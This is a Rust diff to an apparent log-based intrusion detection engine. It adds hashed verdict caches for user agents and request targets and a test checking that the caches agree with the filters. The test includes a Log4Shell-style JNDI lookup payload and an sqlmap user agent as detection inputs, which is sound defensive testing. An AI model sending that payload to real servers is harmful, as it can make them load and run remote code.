@@ -1,13 +1,14 @@
 //! The bucket engine.
-use std::{
-    collections::{BTreeMap, HashMap},
-    net::IpAddr,
-};
+use std::{collections::BTreeMap, net::IpAddr};
 
 use serde::{Deserialize, Serialize};
 
+/// Maps keyed by what sources send (addresses, paths, agents): foldhash is fast and seeded per
+/// process, so no one can aim keys at one slot.
+type HashMap<K, V> = std::collections::HashMap<K, V, foldhash::fast::RandomState>;
+
 use super::{
-    definition::{BucketType, Distinct, GroupBy, Match, Scenario},
+    definition::{BucketType, Distinct, GroupBy, Match, Scenario, TargetVerdict, UserAgentVerdict},
     request::Request,
 };
 use crate::{parsers::Event, prefix::Prefix};
@@ -142,9 +143,108 @@ fn group_addr(group: u64) -> IpAddr {
     }
 }
 
+/// The user-agent part of every scenario's filter, per agent: agents repeat from line to line,
+/// so their substring and regex checks run once per agent, not once per line.
+struct AgentVerdicts {
+    /// By agent as logged; cleared when it holds [`AgentVerdicts::MAX`].
+    seen: HashMap<Box<str>, Box<[UserAgentVerdict]>>,
+    /// For lines without an agent.
+    none: Box<[UserAgentVerdict]>,
+}
+
+impl AgentVerdicts {
+    const MAX: usize = 8192;
+
+    fn new(scenarios: &[Scenario]) -> Self {
+        Self {
+            seen: HashMap::default(),
+            none: scenarios
+                .iter()
+                .map(|s| s.user_agent_verdict(None))
+                .collect(),
+        }
+    }
+
+    fn of(
+        &mut self,
+        scenarios: &[Scenario],
+        r: &Request<'_>,
+        agent: Option<&str>,
+    ) -> &[UserAgentVerdict] {
+        let Some(agent) = agent else {
+            return &self.none;
+        };
+        if !self.seen.contains_key(agent) {
+            if self.seen.len() >= Self::MAX {
+                self.seen.clear();
+            }
+            let lower = r.lower_user_agent();
+            let v = scenarios
+                .iter()
+                .map(|s| s.user_agent_verdict(lower))
+                .collect();
+            self.seen.insert(agent.into(), v);
+        }
+        self.seen.get(agent).map_or(&self.none, |v| v)
+    }
+}
+
+/// The target part of every scenario's filter, per request target, each computed when a
+/// scenario first needs it: pages, assets and API paths repeat from line to line. Targets are
+/// keyed by a hash with a per-process random key (no one can aim a request at another's
+/// entry), and the verdicts live in one table, grown up to its cap and then reused.
+struct TargetVerdicts {
+    hasher: foldhash::quality::RandomState,
+    /// Target hash -> its row in `table`.
+    rows: HashMap<u64, u32>,
+    /// Up to `MAX` rows of one slot per scenario, grown as targets come.
+    table: Vec<Option<TargetVerdict>>,
+    scenarios: usize,
+}
+
+impl TargetVerdicts {
+    const MAX: usize = 16_384;
+
+    fn new(scenarios: usize) -> Self {
+        Self {
+            hasher: foldhash::quality::RandomState::default(),
+            rows: HashMap::with_capacity_and_hasher(Self::MAX, Default::default()),
+            table: Vec::new(),
+            scenarios,
+        }
+    }
+
+    /// The verdict slots of `target` (one per scenario).
+    fn slots(&mut self, target: &str) -> &mut [Option<TargetVerdict>] {
+        use std::hash::BuildHasher;
+        let key = self.hasher.hash_one(target);
+        let next = self.rows.len();
+        let (row, fresh) = match self.rows.get(&key) {
+            Some(row) => (*row as usize, false),
+            None if next < Self::MAX => (next, true),
+            None => {
+                self.rows.clear();
+                (0, true)
+            }
+        };
+        let range = row * self.scenarios..(row + 1) * self.scenarios;
+        if self.table.len() < range.end {
+            self.table.resize(range.end, None);
+        }
+        let slots = &mut self.table[range];
+        if fresh {
+            self.rows.insert(key, row as u32);
+            slots.fill(None);
+        }
+        slots
+    }
+}
+
 /// The leaky bucket engine.
 pub struct Engine {
     scenarios: Vec<Scenario>,
+    agents: AgentVerdicts,
+    targets: TargetVerdicts,
     buckets: HashMap<Key, Bucket>,
     extras: HashMap<Key, Box<Extra>>,
     blackholes: HashMap<Key, i64>,
@@ -156,10 +256,12 @@ impl Engine {
     /// An engine for these scenarios, holding at most `max_buckets` buckets.
     pub fn new(scenarios: Vec<Scenario>, max_buckets: usize) -> Self {
         Self {
+            agents: AgentVerdicts::new(&scenarios),
+            targets: TargetVerdicts::new(scenarios.len()),
             scenarios,
-            buckets: HashMap::new(),
-            extras: HashMap::new(),
-            blackholes: HashMap::new(),
+            buckets: HashMap::default(),
+            extras: HashMap::default(),
+            blackholes: HashMap::default(),
             max_buckets: max_buckets.max(16),
             stats: EngineStats::default(),
         }
@@ -186,9 +288,15 @@ impl Engine {
         let now = e.time_ms;
         let (group, group_prefix) = group_of(e.source);
         let request = Request::of(e);
+        let agents = self.agents.of(&self.scenarios, &request, e.user_agent);
+        let mut slots = e.path.map(|t| self.targets.slots(t));
         let mut matched = false;
         for (i, s) in self.scenarios.iter().enumerate() {
-            let signature = match s.matches(e, &request) {
+            let mut target = |s: &Scenario| match slots.as_mut().and_then(|v| v.get_mut(i)) {
+                Some(slot) => *slot.get_or_insert_with(|| s.target_verdict(e, &request)),
+                None => s.target_verdict(e, &request),
+            };
+            let signature = match s.matches_with(e, &request, agents[i], &mut target) {
                 Match::No => continue,
                 Match::Yes => None,
                 Match::Signature(n) => s.signatures.get(n),
@@ -551,5 +659,64 @@ mod tests {
         }
         assert!(e.buckets() <= 1000);
         assert!(e.stats().evicted >= 9000);
+    }
+
+    /// The per-agent and per-target verdict caches give the answers the filters give, also
+    /// past their caps (when they start over) and for a target seen with other agents.
+    #[test]
+    fn cached_verdicts_agree_with_the_filters() {
+        let mut e = Engine::new(crate::scenarios::builtin(), 100_000);
+        let mut out = Vec::new();
+        let req = |src: &str, target: &'static str, ua: &'static str, t: i64| {
+            let mut ev = Event::new(t, src.parse().unwrap(), Service::Http, Kind::HttpRequest);
+            ev.method = Some("GET");
+            ev.path = Some(target);
+            ev.status = Some(200);
+            ev.user_agent = Some(ua);
+            ev
+        };
+        let targets: Vec<&'static str> = (0..TargetVerdicts::MAX + 500)
+            .map(|i| &*Box::leak(format!("/page/{i}").into_boxed_str()))
+            .collect();
+        let agents: Vec<&'static str> = (0..AgentVerdicts::MAX + 10)
+            .map(|i| &*Box::leak(format!("Mozilla/5.0 build {i}").into_boxed_str()))
+            .collect();
+        for (i, t) in targets.iter().enumerate() {
+            // Spread over time and sources: no rate scenario fills.
+            let src = format!("198.51.{}.{}", i / 250 % 250, i % 250);
+            e.pour(
+                &req(&src, t, agents[i % agents.len()], i as i64 * 60_000),
+                "x",
+                &mut out,
+            );
+        }
+        assert!(
+            out.is_empty(),
+            "{:?}",
+            out.iter().map(|a| &a.scenario).collect::<Vec<_>>()
+        );
+        // A target seen before with a harmless agent, now with an attack tool's: the agent
+        // decides. An exploit target after the caches started over: the signature decides.
+        e.pour(
+            &req("45.60.0.1", targets[3], "sqlmap/1.7", 0),
+            "x",
+            &mut out,
+        );
+        e.pour(
+            &req("45.60.0.2", "/?x=${jndi:ldap://x/a}", agents[0], 0),
+            "x",
+            &mut out,
+        );
+        let got: Vec<(&str, String)> = out
+            .iter()
+            .map(|a| (a.scenario.as_str(), a.source.to_string()))
+            .collect();
+        assert_eq!(
+            got,
+            vec![
+                ("http-bad-user-agent", "45.60.0.1".to_owned()),
+                ("http-exploit", "45.60.0.2".to_owned())
+            ]
+        );
     }
 }
